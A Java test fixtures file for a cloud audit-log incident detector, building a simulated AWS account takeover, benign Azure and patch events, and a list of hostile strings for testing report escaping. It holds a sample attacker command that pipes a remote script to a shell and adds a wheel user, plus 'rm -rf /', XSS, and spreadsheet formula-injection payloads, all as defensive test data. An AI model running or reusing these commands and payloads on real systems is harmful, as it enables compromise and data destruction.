package dev.cadet.reports;

import dev.cadet.model.Actor;
import dev.cadet.model.Answer;
import dev.cadet.model.CloudEvent;
import dev.cadet.model.CloudScope;
import dev.cadet.model.Command;
import dev.cadet.model.ContainmentStep;
import dev.cadet.model.Coverage;
import dev.cadet.model.CoverageGap;
import dev.cadet.model.Decision;
import dev.cadet.model.EventKind;
import dev.cadet.model.FileReport;
import dev.cadet.model.Finding;
import dev.cadet.model.Incident;
import dev.cadet.model.InputReport;
import dev.cadet.model.Mfa;
import dev.cadet.model.Origin;
import dev.cadet.model.Outcome;
import dev.cadet.model.PipelineCounters;
import dev.cadet.model.PrincipalType;
import dev.cadet.model.Provider;
import dev.cadet.model.Reason;
import dev.cadet.model.Reject;
import dev.cadet.model.ScanFilter;
import dev.cadet.model.ScanResult;
import dev.cadet.model.Severity;
import dev.cadet.model.Source;

import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;

/** Scan results built by hand: a realistic T1651 intrusion, an empty scan, and one full of hostile strings. */
final class Fixtures {

    static final long T0 = Instant.parse("2024-05-01T10:00:00Z").toEpochMilli();
    static final long HOUR = 3_600_000L;

    static final String AWS_FILE = "logs/aws/111122223333_CloudTrail_us-east-1_20240501T1000Z_a1b2.json.gz";
    static final String DIGEST_FILE = "logs/aws/111122223333_CloudTrail-Digest_us-east-1_20240501T1100Z.json.gz";
    static final String AZURE_FILE = "logs/azure/activity-2024-05-01.json";
    static final String TRUNCATED_FILE = "logs/aws/111122223333_CloudTrail_eu-west-1_20240501T1005Z_c3d4.json.gz";

    /** Every kind of trouble a log can carry into a report. */
    static final List<String> HOSTILE = List.of(
            "| a | b",
            "`rm -rf /`",
            "<script>alert(1)</script>",
            "[x](http://evil)",
            "# heading",
            "\u001b[31mred\u001b[0m",
            "line1\r\nline2\nline3\rline4",
            "=HYPERLINK(\"http://evil\",\"x\")",
            "+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "-2+3",
            "\u202eexe.txt",
            "````\n```\nstill code",
            "![img](http://evil/i.png)",
            "<http://evil>",
            "*em* _em_ **strong**",
            "\ttab first",
            "\rcr first",
            "'=already quoted",
            "&lt;b&gt; &amp;",
            "1. ordered",
            "> quote",
            "---",
            "back\\slash\\",
            "lone \ud800 surrogate",
            "nul\u0000 bell\u0007 del\u007f c1\u009b2J",
            "bidi \u2066isolate\u2069 \u200bzero width",
            "<img src=x onerror=alert(1)>",
            "~~strike~~ $math$ [^1]",
            "    indented code");

    private Fixtures() {
    }

    // ---- realistic -----------------------------------------------------------------------------

    static ScanResult realistic() {
        String alice = "arn:aws:iam::111122223333:user/alice";
        String newKey = "AKIA5ATTACKERKEY0001";
        Source attacker = new Source("203.0.113.66", null,
                "aws-cli/2.15.0 Python/3.11.6 Linux/6.5.0-kali3-amd64 exe/x86_64.kali.2024 prompt/off", "RU", null);
        CloudScope east = new CloudScope("111122223333", "us-east-1");
        Actor aliceConsole = new Actor(alice, PrincipalType.USER, "alice", "111122223333", null, Mfa.NOT_USED,
                null, null);
        Actor aliceKey = new Actor(alice, PrincipalType.USER, "alice", "111122223333", newKey, Mfa.NOT_USED, null,
                null);
        List<String> instances = List.of("i-0a1b2c3d4e5f60718", "i-0fedcba9876543210");

        CloudEvent login1 = event(Provider.AWS, "6f1c0f3e-1a2b-4c3d-9e8f-000000000001", at(2, 11),
                EventKind.AUTHENTICATION, "signin:ConsoleLogin", Outcome.FAILURE, null, "Failed authentication",
                aliceConsole, attacker, List.of(), null, null, east, new Origin(AWS_FILE, 3, 1, 2211));
        CloudEvent login2 = event(Provider.AWS, "6f1c0f3e-1a2b-4c3d-9e8f-000000000002", at(2, 40),
                EventKind.AUTHENTICATION, "signin:ConsoleLogin", Outcome.FAILURE, null, "Failed authentication",
                aliceConsole, attacker, List.of(), null, null, east, new Origin(AWS_FILE, 4, 1, 3290));
        CloudEvent login3 = event(Provider.AWS, "6f1c0f3e-1a2b-4c3d-9e8f-000000000003", at(3, 5),
                EventKind.AUTHENTICATION, "signin:ConsoleLogin", Outcome.SUCCESS, null, null, aliceConsole, attacker,
                List.of(), null, null, east, new Origin(AWS_FILE, 5, 1, 4377));
        CloudEvent createKey = event(Provider.AWS, "6f1c0f3e-1a2b-4c3d-9e8f-000000000004", at(5, 30),
                EventKind.CREDENTIAL_CHANGE, "iam:CreateAccessKey", Outcome.SUCCESS, null, null, aliceConsole,
                attacker, List.of(newKey), alice, null, east, new Origin(AWS_FILE, 9, 1, 9120));
        Command curl = new Command("AWS-RunShellScript",
                List.of("curl -fsSL http://198.51.100.23/x.sh | sh", "useradd -m -G wheel svc-backup"),
                "4f7c1e2a-9b8d-4c3e-a1f0-2d6e8b9c0a11", null);
        CloudEvent send = event(Provider.AWS, "6f1c0f3e-1a2b-4c3d-9e8f-000000000005", at(9, 12),
                EventKind.COMMAND_EXECUTION, "ssm:SendCommand", Outcome.SUCCESS, null, null, aliceKey, attacker,
                instances, null, curl, east, new Origin(AWS_FILE, 14, 1, 17002));
        CloudEvent denied = event(Provider.AWS, "6f1c0f3e-1a2b-4c3d-9e8f-000000000006", at(9, 40),
                EventKind.COMMAND_EXECUTION, "ssm:SendCommand", Outcome.FAILURE, "AccessDenied",
                "User: arn:aws:iam::111122223333:user/alice is not authorized to perform: ssm:SendCommand on "
                        + "resource: arn:aws:ec2:us-east-1:111122223333:instance/i-0123456789abcdef0",
                aliceKey, attacker, List.of("i-0123456789abcdef0"), null,
                new Command("AWS-RunShellScript", List.of(), null, null), east, new Origin(AWS_FILE, 15, 1, 18410));

        Finding f1 = new Finding("F-0001", "failed-then-success", Severity.HIGH, login1.time(), login3.time(),
                Provider.AWS, alice, null, "203.0.113.66", "signin:ConsoleLogin", List.of(),
                "2 failed console logins for alice, then a successful one without MFA from 203.0.113.66 (RU)",
                List.of(login1, login2, login3));
        Finding f2 = new Finding("F-0002", "iam-then-command", Severity.CRITICAL, createKey.time(), send.time(),
                Provider.AWS, alice, newKey, "203.0.113.66", "ssm:SendCommand", instances,
                "Access key " + newKey + " created for alice and used 3 minutes later to run a command on 2 instances",
                List.of(createKey, send));
        Finding f3 = new Finding("F-0003", "suspicious-command-content", Severity.CRITICAL, send.time(), send.time(),
                Provider.AWS, alice, newKey, "203.0.113.66", "ssm:SendCommand", instances,
                "Command downloads a script and pipes it to a shell, then adds a user to wheel (T1105, T1059.004, T1136.001)",
                List.of(send));
        Finding f4 = new Finding("F-0004", "denied-command-burst", Severity.MEDIUM, denied.time(), denied.time(),
                Provider.AWS, alice, newKey, "203.0.113.66", "ssm:SendCommand", List.of("i-0123456789abcdef0"),
                "SendCommand denied for alice on i-0123456789abcdef0 right after a successful one",
                List.of(denied));

        Incident inc1 = new Incident("INC-001", Decision.ESCALATE_TIER2, Severity.CRITICAL, List.of(alice),
                List.of(newKey), List.of("203.0.113.66"),
                List.of("i-0123456789abcdef0", "i-0a1b2c3d4e5f60718", "i-0fedcba9876543210"), login1.time(),
                denied.time(),
                List.of(new Reason("account-compromise",
                                "Failed logins then a success without MFA, and a new access key used for commands "
                                        + "(playbook: Decision for Escalation, account compromise)",
                                List.of("F-0001", "F-0002")),
                        new Reason("known-ttp",
                                "Command matches known threat-actor techniques: download and execute, new privileged user "
                                        + "(playbook: Decision for Escalation, known TTPs)",
                                List.of("F-0003")),
                        new Reason("failed-then-success",
                                "Multiple failed attempts followed by a successful execution "
                                        + "(playbook: Decision for Escalation)",
                                List.of("F-0001"))),
                List.of(f1, f2, f3, f4),
                List.of(new ContainmentStep("Deactivate access key " + newKey + " created during the intrusion",
                                "aws iam update-access-key --user-name alice --access-key-id " + newKey
                                        + " --status Inactive"),
                        new ContainmentStep("Remove console access for alice until the owner is verified",
                                "aws iam delete-login-profile --user-name alice"),
                        new ContainmentStep("See what the command did on each instance",
                                "aws ssm list-command-invocations --command-id 4f7c1e2a-9b8d-4c3e-a1f0-2d6e8b9c0a11 --details"),
                        new ContainmentStep("Isolate i-0a1b2c3d4e5f60718 and i-0fedcba9876543210 for forensic review "
                                + "(apply the isolation security group)", null)),
                List.of(new Answer("Has there been any recent account takeover or suspicious IAM activity?",
                                "Yes: 2 failed console logins then a success without MFA from 203.0.113.66, and a new "
                                        + "access key created 2 minutes later.", List.of("F-0001", "F-0002")),
                        new Answer("Are the command executions associated with known, trusted users or processes?",
                                "No: alice is not approved automation and has not run commands before.",
                                List.of("F-0002", "F-0003")),
                        new Answer("Are there any geo-location anomalies in command executions?",
                                Answer.NO_EVIDENCE, List.of()),
                        new Answer("Is there any correlation with recent security advisories or threat intelligence "
                                + "information?", "The command matches download-and-execute (T1105).",
                                List.of("F-0003"))),
                List.of(new Answer("Correlate IAM activity logs with command executions to identify any unauthorized "
                                + "access.", "The access key used for SendCommand was created in this incident.",
                                List.of("F-0002")),
                        new Answer("Validate whether the IP addresses associated with the commands are known and "
                                + "approved.", "203.0.113.66 is not in the approved list.", List.of("F-0002")),
                        new Answer("Check for any alerts or critical notifications in place around these services.",
                                "Not visible in audit logs: check the alerting console.", List.of())));

        // Azure: an operator running a command that is new for them, from a known office address.
        String bob = "bob@contoso.example";
        String vm = "/subscriptions/0b1f6471-1bf0-4dda-aec3-111122223333/resourceGroups/prod-rg/providers/"
                + "Microsoft.Compute/virtualMachines/web-01";
        CloudScope azure = new CloudScope("0b1f6471-1bf0-4dda-aec3-111122223333", "westeurope");
        CloudEvent run = event(Provider.AZURE, "c0ffee00-0000-4000-8000-000000000101", at(21, 0),
                EventKind.COMMAND_EXECUTION, "Microsoft.Compute/virtualMachines/runCommand/action", Outcome.SUCCESS,
                null, null, new Actor(bob, PrincipalType.USER, "Bob", "72f988bf-0000-0000-0000-000000000000", null,
                        Mfa.USED, null, null),
                new Source("198.51.100.200", null, "Mozilla/5.0 (Windows NT 10.0; Win64; x64) Edge/124.0", "NL",
                        "Amsterdam"),
                List.of(vm), null,
                new Command("RunPowerShellScript",
                        List.of("Get-Service | Where-Object {$_.Status -eq 'Running'}", "Restart-Service W3SVC"), null,
                        null),
                azure, new Origin(AZURE_FILE, 11, 212, 5));
        Finding f5 = new Finding("F-0005", "rare-command", Severity.MEDIUM, run.time(), run.time(), Provider.AZURE, bob,
                null, "198.51.100.200", "Microsoft.Compute/virtualMachines/runCommand/action", List.of(vm),
                "bob@contoso.example ran RunPowerShellScript on web-01 for the first time in the baseline period",
                List.of(run));
        Incident inc2 = new Incident("INC-002", Decision.TIER1_REVIEW, Severity.MEDIUM, List.of(bob), List.of(),
                List.of("198.51.100.200"), List.of(vm), run.time(), run.time(),
                List.of(new Reason("unusual-command",
                        "Command not seen before for this principal, from a known source; no escalation trigger "
                                + "(playbook: Key Indicators)", List.of("F-0005"))),
                List.of(f5),
                List.of(new ContainmentStep("Confirm with bob@contoso.example that the run command on web-01 was planned",
                        null)), List.of(), List.of());

        // Approved patch automation, from the SSM service itself.
        String patch = "arn:aws:sts::111122223333:assumed-role/PatchAutomation/patch-run-20240501";
        Actor patchRole = new Actor(patch, PrincipalType.ROLE, "PatchAutomation", "111122223333", "ASIAPATCHROLE0000001",
                Mfa.UNKNOWN, "arn:aws:iam::111122223333:role/PatchAutomation", "ssm.amazonaws.com");
        Source ssm = new Source(null, "ssm.amazonaws.com", "ssm.amazonaws.com", null, null);
        List<CloudEvent> patchRuns = new ArrayList<>();
        for (int k = 0; k < 3; k++) {
            patchRuns.add(event(Provider.AWS, "6f1c0f3e-1a2b-4c3d-9e8f-00000000001" + k, at(30 + k, 0),
                    EventKind.COMMAND_EXECUTION, "ssm:SendCommand", Outcome.SUCCESS, null, null, patchRole, ssm,
                    List.of("key:tag:PatchGroup=prod"), null,
                    new Command("AWS-RunPatchBaseline", List.of(), "9a0b1c2d-0000-4000-8000-00000000000" + k, null),
                    east, new Origin(AWS_FILE, 30 + k, 1, 40000 + 1000L * k)));
        }
        Finding f6 = new Finding("F-0006", "command-execution", Severity.LOW, patchRuns.get(0).time(),
                patchRuns.get(2).time(), Provider.AWS, patch, "ASIAPATCHROLE0000001", null, "ssm:SendCommand",
                List.of("key:tag:PatchGroup=prod"),
                "PatchAutomation ran AWS-RunPatchBaseline 3 times on PatchGroup=prod (approved automation)", patchRuns);
        Incident inc3 = new Incident("INC-003", Decision.BENIGN, Severity.LOW, List.of(patch),
                List.of("ASIAPATCHROLE0000001"), List.of(), List.of("key:tag:PatchGroup=prod"), f6.firstSeen(),
                f6.lastSeen(), List.of(), List.of(f6), List.of(), List.of(), List.of());

        // A session that joined no incident.
        String carol = "arn:aws:iam::111122223333:user/carol";
        CloudEvent session = event(Provider.AWS, "7a7a7a7a-0000-4000-8000-000000000201", at(45, 0),
                EventKind.INTERACTIVE_SESSION, "ssm:StartSession", Outcome.SUCCESS, null, null,
                new Actor(carol, PrincipalType.USER, "carol", "111122223333", "AKIACAROLKEY00000001", Mfa.USED, null,
                        null),
                new Source("192.0.2.10", null, "aws-cli/2.15.0", "GB", "London"), List.of("i-0aaaabbbbccccdddd"), null,
                null, new CloudScope("111122223333", "eu-west-1"), new Origin(TRUNCATED_FILE, 2, 1, 1290));
        Finding f7 = new Finding("F-0007", "command-execution", Severity.INFO, session.time(), session.time(),
                Provider.AWS, carol, "AKIACAROLKEY00000001", "192.0.2.10", "ssm:StartSession",
                List.of("i-0aaaabbbbccccdddd"), "carol opened a Session Manager session on i-0aaaabbbbccccdddd",
                List.of(session));

        List<FileReport> files = List.of(
                new FileReport(AZURE_FILE, "azure-activity-records", 25, 18, 0, 7, null),
                new FileReport(DIGEST_FILE, "cloudtrail-digest", 1, 0, 1, 0, null),
                new FileReport(AWS_FILE, "cloudtrail-records", 40, 38, 0, 2, null),
                new FileReport(TRUNCATED_FILE, "cloudtrail-records", 10, 9, 0, 1,
                        "truncated gzip stream after record #10; 9 events salvaged"));
        List<Reject> rejects = new ArrayList<>();
        for (int r : new int[] {3, 5, 8, 9, 12, 20, 21}) {
            rejects.add(new Reject(new Origin(AZURE_FILE, r, 19L * r, 5), "missing required field 'time'",
                    "{\"operationName\":\"Microsoft.Compute/virtualMachines/write\",\"category\":\"Administrative\","
                            + "\"resultType\":\"Start\"}"));
        }
        rejects.add(new Reject(new Origin(AWS_FILE, 7, 1, 8001), "unsupported eventVersion '0.9'",
                "{\"eventVersion\":\"0.9\",\"eventSource\":\"ec2.amazonaws.com\"}"));
        rejects.add(new Reject(new Origin(AWS_FILE, 31, 1, 39000), "unsupported eventVersion '0.9'",
                "{\"eventVersion\":\"0.9\",\"eventSource\":\"s3.amazonaws.com\"}"));
        rejects.add(new Reject(new Origin(TRUNCATED_FILE, 10, 1, 9800),
                "invalid JSON: unexpected end of input in a string value", null));

        PipelineCounters pipeline = new PipelineCounters(65, 3, 1, Map.of(
                "command-spike", Map.of("evicted_keys", 12L),
                "failed-then-success", Map.of("late_events", 1L, "evicted_keys", 4L)));
        List<Coverage> coverage = List.of(
                new Coverage(Provider.AWS, "111122223333", "eu-west-1", at(1, 0), at(300, 0), 9,
                        List.of(new CoverageGap(T0 + 2 * HOUR, T0 + 4 * HOUR))),
                new Coverage(Provider.AWS, "111122223333", "us-east-1", at(0, 12), at(58, 30), 38),
                new Coverage(Provider.AZURE, "0b1f6471-1bf0-4dda-aec3-111122223333", "westeurope", at(4, 0),
                        at(55, 0), 18));
        return new ScanResult(new InputReport(files, rejects), pipeline, coverage,
                List.of(f1, f2, f3, f4, f5, f6, f7), List.of(inc1, inc2, inc3));
    }

    // ---- empty ---------------------------------------------------------------------------------

    static ScanResult empty() {
        return new ScanResult(new InputReport(List.of(), List.of()), new PipelineCounters(0, 0, 0, Map.of()),
                List.of(), List.of(), List.of());
    }

    // ---- hostile -------------------------------------------------------------------------------

    /** The hostile string for slot {@code k}, cycling so that each one lands in every kind of field. */
    static String h(int k) {
        return HOSTILE.get(Math.floorMod(k, HOSTILE.size()));
    }

    /**
     * One finding and one incident per hostile string; in finding {@code k} field {@code j} holds
     * {@code h(k + j)}, so every string starts every attacker-controlled field somewhere.
     */
    static ScanResult hostile() {
        int n = HOSTILE.size();
        List<Finding> findings = new ArrayList<>();
        List<Incident> incidents = new ArrayList<>();
        List<FileReport> files = new ArrayList<>();
        List<Reject> rejects = new ArrayList<>();
        List<Coverage> coverage = new ArrayList<>();
        for (int k = 0; k < n; k++) {
            String fid = String.format("F-%04d", k + 1);
            String iid = String.format("INC-%03d", k + 1);
            Actor actor = new Actor(h(k), PrincipalType.USER, h(k + 1), h(k + 2), h(k + 3), Mfa.NOT_USED, h(k + 4),
                    h(k + 5));
            Source source = new Source(h(k + 6), h(k + 7), h(k + 8), h(k + 9), h(k + 10));
            Command command = new Command(h(k + 11), List.of(h(k + 12), h(k + 13), h(k)), h(k + 14), h(k + 15));
            CloudEvent e = event(Provider.values()[k % Provider.values().length], h(k + 16), at(k, 0),
                    EventKind.COMMAND_EXECUTION, h(k + 17), Outcome.FAILURE, h(k + 18), h(k + 19), actor, source,
                    List.of(h(k + 20), h(k + 21)), h(k + 22), command, new CloudScope(h(k + 23), h(k + 24)),
                    new Origin(h(k + 25), k + 1, k % 2 == 0 ? 0 : k, 1));
            Finding f = new Finding(fid, h(k + 26), Severity.values()[k % Severity.values().length], e.time(),
                    e.time(), e.provider(), h(k), h(k + 3), h(k + 6), h(k + 17), List.of(h(k + 20), h(k + 21)),
                    h(k + 27), List.of(e));
            findings.add(f);
            incidents.add(new Incident(iid, Decision.values()[k % Decision.values().length], f.severity(),
                    List.of(h(k), h(k + 1)), List.of(h(k + 3)), List.of(h(k + 6)), List.of(h(k + 20), h(k + 21)),
                    e.time(), e.time(),
                    List.of(new Reason(h(k + 28), h(k + 29), List.of(fid, h(k + 5)))),
                    List.of(f),
                    List.of(new ContainmentStep(h(k + 2), h(k + 12) + "\n" + h(k + 13)),
                            new ContainmentStep(h(k + 4), null)),
                    List.of(new Answer(h(k + 5), h(k + 6), List.of(fid, h(k + 7)))),
                    List.of(new Answer(h(k + 8), h(k + 9), List.of(h(k + 10))))));
            files.add(new FileReport(h(k + 25), h(k + 1), 3, 1, 1, 1, k % 3 == 0 ? h(k + 7) : null));
            rejects.add(new Reject(new Origin(h(k + 25), 2, k, 1), h(k + 8), k % 4 == 0 ? null : h(k + 9)));
            coverage.add(new Coverage(Provider.values()[k % Provider.values().length], h(k + 23), h(k + 24), at(k, 0),
                    at(k, 30) + 3 * HOUR, 2, List.of(new CoverageGap(T0 + HOUR, T0 + 3 * HOUR))));
        }
        PipelineCounters pipeline = new PipelineCounters(n, 0, 0, Map.of(h(3), Map.of(h(4), 1L)));
        return new ScanResult(new InputReport(files, rejects), pipeline, coverage, findings, incidents,
                new ScanFilter(List.of(h(0), h(5), h(6)), 0));
    }

    // ---- helpers -------------------------------------------------------------------------------

    static long at(int minutes, int seconds) {
        return T0 + minutes * 60_000L + seconds * 1_000L;
    }

    static CloudEvent event(Provider provider, String id, long time, EventKind kind, String action, Outcome outcome,
                            String errorCode, String errorMessage, Actor actor, Source source, List<String> targets,
                            String subject, Command command, CloudScope cloud, Origin origin) {
        return new CloudEvent(provider, id, time, kind, action, outcome, errorCode, errorMessage, actor, source,
                targets, subject, command, cloud, null, origin);
    }
}
